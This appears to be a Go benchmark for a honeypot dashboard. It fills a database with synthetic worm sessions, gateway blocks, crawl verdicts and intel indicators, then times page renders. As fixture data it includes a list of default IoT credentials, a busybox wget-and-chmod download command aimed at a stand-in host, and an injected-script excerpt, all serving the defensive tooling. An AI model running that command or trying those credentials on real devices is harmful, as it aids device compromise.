// Command dashboard measures how long each dashboard view takes to render
// with real volumes in the store: it fills a SQLite database (through the
// store's own AppendEvents, PutVisit and UpsertIndicators, so every rollup
// and index is maintained as in production) with worm-like honeypot
// sessions, gateway blocks, a watch list of sites visited every day and
// intel indicators, then signs in over loopback and times every page the
// issue names (and the detail pages: a session, a tampering cell, a block
// by its reference, an intel search by value, category and source).
//
//	go run ./bench/dashboard -db /tmp/hgbench -events 10000000 -sites 500 -days 180 -indicators 1000000
//
// The database is kept in -db and reused when its marker files say it
// holds the same volumes, so the (long) fills run once; the indicators
// have their own marker, so they are added to a database filled before.
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"runtime/pprof"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/honeygate/honeygate/internal/crawl"
	"github.com/honeygate/honeygate/internal/event"
	"github.com/honeygate/honeygate/internal/intel"
	"github.com/honeygate/honeygate/internal/store"
	"github.com/honeygate/honeygate/internal/store/sqlite"
	"github.com/honeygate/honeygate/internal/web"
)

func main() {
	dir := flag.String("db", filepath.Join(os.TempDir(), "hg-dashboard-bench"), "directory of the bench database (kept)")
	events := flag.Int("events", 1000000, "honeypot events to store")
	sites := flag.Int("sites", 500, "watched sites")
	days := flag.Int("days", 180, "days of history (events and visits spread over them)")
	indicators := flag.Int("indicators", 1000000, "intel indicators to store")
	runs := flag.Int("runs", 5, "renders per view")
	only := flag.String("only", "", "time only the views whose path starts with this")
	prof := flag.String("cpuprofile", "", "write a CPU profile of the timed renders to this file")
	flag.Parse()
	if *prof != "" {
		f, err := os.Create(*prof)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		profStart = func() { _ = pprof.StartCPUProfile(f) }
		defer pprof.StopCPUProfile()
	}
	onlyPrefix = *only
	if err := run(*dir, *events, *sites, *days, *indicators, *runs); err != nil {
		fmt.Fprintln(os.Stderr, "dashboard bench:", err)
		os.Exit(1)
	}
}

var (
	profStart  = func() {}
	onlyPrefix string
)

// eventsPerSession: connect, two failed logins, one accepted, a command, a
// download, close.
const eventsPerSession = 7

var creds = [][2]string{{"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}, {"root", "888888"}, {"root", "default"},
	{"support", "support"}, {"root", "juantech"}, {"admin", "password"}, {"root", "12345"}, {"guest", "guest"}}

var families = []string{"mirai", "mirai", "mirai", "hajime", "gafgyt", "unknown"}

func run(dir string, nEvents, nSites, nDays, nIndicators, runs int) error {
	ctx := context.Background()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	marker := filepath.Join(dir, "filled")
	want := fmt.Sprintf("%d %d %d", nEvents, nSites, nDays)
	today := time.Now().UTC().Truncate(24 * time.Hour)
	if b, _ := os.ReadFile(marker); string(b) != want {
		_ = os.Remove(filepath.Join(dir, "honeygate.db"))
		_ = os.Remove(filepath.Join(dir, "honeygate.db-wal"))
		_ = os.Remove(filepath.Join(dir, "honeygate.db-shm"))
		_ = os.Remove(filepath.Join(dir, "intel-filled"))
	}
	db, err := sqlite.Open(filepath.Join(dir, "honeygate.db"))
	if err != nil {
		return err
	}
	defer db.Close()
	if b, _ := os.ReadFile(marker); string(b) != want {
		start := time.Now()
		if err := fill(ctx, db, today, nEvents, nSites, nDays); err != nil {
			return err
		}
		fmt.Printf("filled %d events, %d sites x %d days in %s\n", nEvents, nSites, nDays, time.Since(start).Round(time.Second))
		if err := os.WriteFile(marker, []byte(want), 0o644); err != nil {
			return err
		}
	}
	intelMarker, intelWant := filepath.Join(dir, "intel-filled"), strconv.Itoa(nIndicators)
	if b, _ := os.ReadFile(intelMarker); string(b) != intelWant {
		start := time.Now()
		if _, err := db.DeleteIndicators(ctx, intel.Filter{Type: intel.TypeDomain}); err != nil {
			return err
		}
		for _, t := range []intel.Type{intel.TypeURL, intel.TypeIP, intel.TypeSHA256} {
			if _, err := db.DeleteIndicators(ctx, intel.Filter{Type: t}); err != nil {
				return err
			}
		}
		if err := fillIntel(ctx, db, today, nIndicators); err != nil {
			return err
		}
		fmt.Printf("filled %d indicators in %s\n", nIndicators, time.Since(start).Round(time.Second))
		if err := os.WriteFile(intelMarker, []byte(intelWant), 0o644); err != nil {
			return err
		}
	}
	n, err := db.CountEvents(ctx)
	if err != nil {
		return err
	}
	fmt.Printf("store: %d events\n", n)

	const token = "bench-token"
	h := web.New(web.Options{Store: db, Blocks: db, Token: token, Log: slog.New(slog.DiscardHandler),
		Crawl: &web.CrawlOptions{Store: db}, Audit: db,
		Intel: intel.NewManager(intel.ManagerOptions{Store: db})})
	srv := httptest.NewServer(h)
	defer srv.Close()
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar}
	if err := signIn(c, srv.URL, token); err != nil {
		return err
	}
	day := func(d int) string { return today.AddDate(0, 0, -d).Format(time.DateOnly) }
	evs, err := db.Events(ctx, eventFilterSession())
	if err != nil || len(evs) == 0 {
		return fmt.Errorf("no session to show: %v", err)
	}
	views := []string{
		"/", "/honeypot", "/honeypot?from=" + day(nDays-1) + "&to=" + day(0),
		"/sessions/" + evs[0].Session,
		"/blocks", "/blocks?from=" + day(nDays-1) + "&to=" + day(0),
		"/tampering", "/tampering?from=" + day(nDays-1) + "&to=" + day(0),
		"/tampering/cell?site=site-0007&day=" + day(3),
		"/blocks?ref=R6",
		"/ref/" + evs[0].ID, // an indicator's evidence: redirects to its session
		// The live counter's poll (what a browser without EventSource asks
		// every 2 s): events of today, newest first, at most 100.
		"/ui/live?since=" + strconv.FormatInt(today.UnixMilli(), 10),
		"/watch",
		"/intel",
		"/intel?value=" + indicatorValue(nIndicators/2),
		"/intel?category=" + intel.CategoryPhishing,
		"/intel?source=feed-c",
		"/intel?category=" + intel.CategoryC2 + "&source=crawl",
		"/intel?type=url&category=" + intel.CategoryScam,
		// A search that finds nothing: the worst case of a combined filter
		// (one index narrows, the other condition is checked row by row).
		"/intel?category=" + intel.CategoryMalware + "&source=no-such-feed",
		"/intel?type=url&category=" + intel.CategoryC2 + "&source=no-such-feed",
	}
	fmt.Printf("%-60s %10s %10s %10s\n", "view", "median", "max", "bytes")
	profStart()
	for _, v := range views {
		if !strings.HasPrefix(v, onlyPrefix) {
			continue
		}
		var ds []time.Duration
		var size int
		for range runs {
			t0 := time.Now()
			res, err := c.Get(srv.URL + v)
			if err != nil {
				return err
			}
			b, _ := io.ReadAll(res.Body)
			res.Body.Close()
			ds = append(ds, time.Since(t0))
			if res.StatusCode != 200 {
				return fmt.Errorf("%s: %d", v, res.StatusCode)
			}
			size = len(b)
		}
		slices.Sort(ds)
		fmt.Printf("%-60s %10s %10s %10d\n", v, ds[len(ds)/2].Round(time.Millisecond), ds[len(ds)-1].Round(time.Millisecond), size)
	}
	return nil
}

func signIn(c *http.Client, base, token string) error {
	res, err := c.Get(base + "/login")
	if err != nil {
		return err
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	m := regexp.MustCompile(`name="csrf" value="([0-9a-f]+)"`).FindSubmatch(b)
	if m == nil {
		return fmt.Errorf("no sign-in form")
	}
	res, err = c.PostForm(base+"/login", url.Values{"csrf": {string(m[1])}, "token": {token}})
	if err != nil {
		return err
	}
	res.Body.Close()
	if res.Request.URL.Path != "/" {
		return fmt.Errorf("sign-in failed: at %s", res.Request.URL.Path)
	}
	return nil
}

// fill stores the sessions spread evenly over the days, a block per
// sixth session, and one visit per site and day (1 in 50 tampered, a
// campaign every 30 days, 1 in 200 errors).
func fill(ctx context.Context, db *sqlite.DB, today time.Time, nEvents, nSites, nDays int) error {
	sessions := nEvents / eventsPerSession
	first := today.AddDate(0, 0, -(nDays - 1))
	step := time.Duration(int64(nDays) * int64(24*time.Hour) / int64(max(sessions, 1)))
	batch := make([]event.Event, 0, 7000)
	flush := func() error {
		if len(batch) == 0 {
			return nil
		}
		_, err := db.AppendEvents(ctx, batch)
		batch = batch[:0]
		return err
	}
	t0 := time.Now()
	for i := range sessions {
		at := first.Add(time.Duration(i) * step)
		ip := fmt.Sprintf("10.%d.%d.%d", (i/65536)%256, (i/256)%256, i%256)
		sid := "s" + strconv.Itoa(i)
		fam := families[i%len(families)]
		port := []int{23, 2323, 23, 22}[i%4]
		ev := func(k event.Kind, off time.Duration) event.Event {
			return event.Event{ID: event.NewID(), Time: at.Add(off), Kind: k, Sensor: "bench", Proto: "telnet", SrcIP: ip, SrcPort: 40000 + i%20000, DstPort: port, Session: sid, Family: fam}
		}
		c1, c2, c3 := creds[i%len(creds)], creds[(i*7+3)%len(creds)], creds[(i*3+1)%len(creds)]
		l1 := ev(event.LoginFailed, time.Second)
		l1.Username, l1.Password = event.Text(c1[0]), event.TextPtr(c1[1])
		l2 := ev(event.LoginFailed, 2*time.Second)
		l2.Username, l2.Password = event.Text(c2[0]), event.TextPtr(c2[1])
		l3 := ev(event.LoginSuccess, 3*time.Second)
		l3.Username, l3.Password = event.Text(c3[0]), event.TextPtr(c3[1])
		cmd := ev(event.CommandInput, 4*time.Second)
		cmd.Input = "/bin/busybox wget http://192.0.2.1/bins/x.arm7; chmod 777 x.arm7"
		dl := ev(event.FileDownload, 5*time.Second)
		dl.URL = event.Text(fmt.Sprintf("http://192.0.2.%d/bins/%d.arm7", i%250, i%5000))
		cl := ev(event.SessionClosed, 6*time.Second)
		batch = append(batch, ev(event.SessionConnect, 0), l1, l2, l3, cmd, dl, cl)
		if i%6 == 0 {
			b := event.Event{ID: event.NewID(), Time: at, Kind: event.GatewayBlock, Sensor: "bench", Proto: "dns", SrcIP: fmt.Sprintf("172.16.%d.%d", (i/256)%256, i%256)}
			b.Block.Host, b.Category, b.Enforcer, b.Action, b.Ref = event.Text(fmt.Sprintf("bad%d.example", i%700)), []string{"malware", "phishing", "c2"}[i%3], "dns", event.ActionNXDomain, "R"+strconv.Itoa(i)
			batch = append(batch, b)
		}
		if len(batch) >= 7000 {
			if err := flush(); err != nil {
				return err
			}
		}
		if i > 0 && i%100000 == 0 {
			fmt.Printf("  %d sessions in %s\n", i, time.Since(t0).Round(time.Second))
		}
	}
	if err := flush(); err != nil {
		return err
	}
	for s := range nSites {
		name := fmt.Sprintf("site-%04d", s)
		if _, err := db.AddSite(ctx, crawl.Site{Name: name, URL: "https://" + name + ".example/", Profile: crawl.DefaultProfile}); err != nil {
			return err
		}
		for d := range nDays {
			day := first.AddDate(0, 0, d)
			v := crawl.Visit{
				Capture: crawl.Capture{ID: fmt.Sprintf("%s-%d", name, d), Site: name, URL: "https://" + name + ".example/", FinalURL: "https://" + name + ".example/",
					Day: day.Format(time.DateOnly), Time: day.Add(3 * time.Hour), Engine: "static", Profile: crawl.DefaultProfile, Status: 200,
					Resources: []crawl.Resource{{URL: "https://" + name + ".example/", Host: name + ".example", Type: "document"}, {URL: "https://cdn.example/lib.js", Host: "cdn.example", Type: "script"}}},
				Verdict: crawl.Verdict{Verdict: crawl.Clean, Reasons: []crawl.Reason{}},
			}
			switch {
			case (s*31+d*7)%50 == 0 || (d%30 == 0 && s%40 == 0):
				v.Verdict = crawl.Verdict{Verdict: crawl.Malicious, Score: 0.9, Campaign: []string{"host:evil" + strconv.Itoa(d/30) + ".example"},
					Reasons: []crawl.Reason{{Detector: "script", Rule: "injected-script", Score: 0.9, Evidence: "https://evil.example/j.js", Excerpt: `<script src="https://evil.example/j.js"></script>`}}}
			case (s+d)%200 == 0:
				v.Capture.Error, v.Verdict = "connection refused", crawl.Verdict{Verdict: crawl.Error, Reasons: []crawl.Reason{}}
			}
			if err := db.PutVisit(ctx, v); err != nil {
				return err
			}
		}
	}
	return nil
}

// Indicators: 1 in 4 each of domain, url, ip and sha256; categories and
// sources in turn (so every category has every source); 1 in 10 carries a
// ref to the event behind it.
var (
	intelCategories = []string{intel.CategoryMalware, intel.CategoryMalwareDownload, intel.CategoryExploitKit,
		intel.CategoryPhishing, intel.CategoryScam, intel.CategoryMiner, intel.CategoryC2}
	intelSources = []string{"feed-a", "feed-b", "feed-c", "feed-d", "feed-e", "honeypot", "crawl", "manual"}
)

func indicatorValue(i int) string {
	switch i % 4 {
	case 0:
		return fmt.Sprintf("bad%d.example", i)
	case 1:
		return fmt.Sprintf("http://bad%d.example/p/%d.exe", i%50000, i)
	case 2:
		return fmt.Sprintf("198.%d.%d.%d", 18+(i>>16)%2, (i>>8)&255, i&255) // 198.18.0.0/15, benchmarking space
	default:
		return fmt.Sprintf("%064x", i)
	}
}

func fillIntel(ctx context.Context, db *sqlite.DB, today time.Time, n int) error {
	types := []intel.Type{intel.TypeDomain, intel.TypeURL, intel.TypeIP, intel.TypeSHA256}
	batch := make([]intel.Indicator, 0, 10000)
	for i := range n {
		seen := today.Add(-time.Duration(i%(180*24)) * time.Hour)
		ind := intel.Indicator{Type: types[i%4], Value: indicatorValue(i), Category: intelCategories[i%len(intelCategories)],
			Source: intelSources[(i/len(intelCategories))%len(intelSources)], FirstSeen: seen, LastSeen: seen}
		if i%10 == 0 {
			ind.Refs = []string{fmt.Sprintf("ev%d", i)}
		}
		batch = append(batch, ind)
		if len(batch) == cap(batch) || i == n-1 {
			if _, err := db.UpsertIndicators(ctx, batch); err != nil {
				return err
			}
			batch = batch[:0]
		}
		if i > 0 && i%200000 == 0 {
			fmt.Printf("  %d indicators\n", i)
		}
	}
	return nil
}

func eventFilterSession() store.EventFilter {
	return store.EventFilter{Kind: event.SessionConnect, Limit: 1}
}
